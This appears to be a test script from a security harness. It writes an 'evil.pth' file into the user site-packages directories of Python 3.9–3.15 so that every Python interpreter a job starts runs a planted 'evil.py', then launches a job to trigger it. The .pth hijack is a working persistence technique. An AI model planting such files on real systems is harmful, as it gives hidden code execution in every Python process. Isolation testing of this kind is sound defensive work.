#!/usr/bin/env python3
"""A .pth file in the site-packages of the job's home, which every Python that the job starts would run."""
from rig import EVIL, arguments, attack


def plant(rig):
    (rig.tmp / "evil.py").write_text(EVIL)
    for minor in range(9, 16):
        site = rig.home / f".local/lib/python3.{minor}/site-packages"
        site.mkdir(parents=True)
        (site / "evil.pth").write_text(f"import runpy; runpy.run_path({str(rig.tmp / 'evil.py')!r})\n")


if __name__ == "__main__":
    args = arguments(__doc__)
    # The system's interpreter, not the launcher's: one of a virtual environment has no user site.
    train = "PATH=/usr/bin:/bin python3 -c pass\n"
    if args.dialect == "tuneplane":
        train = "import subprocess\nsubprocess.run(['/bin/sh', '-c', 'PATH=/usr/bin:/bin python3 -c pass'], check=True)\n"
    attack(args, plant, train=train)
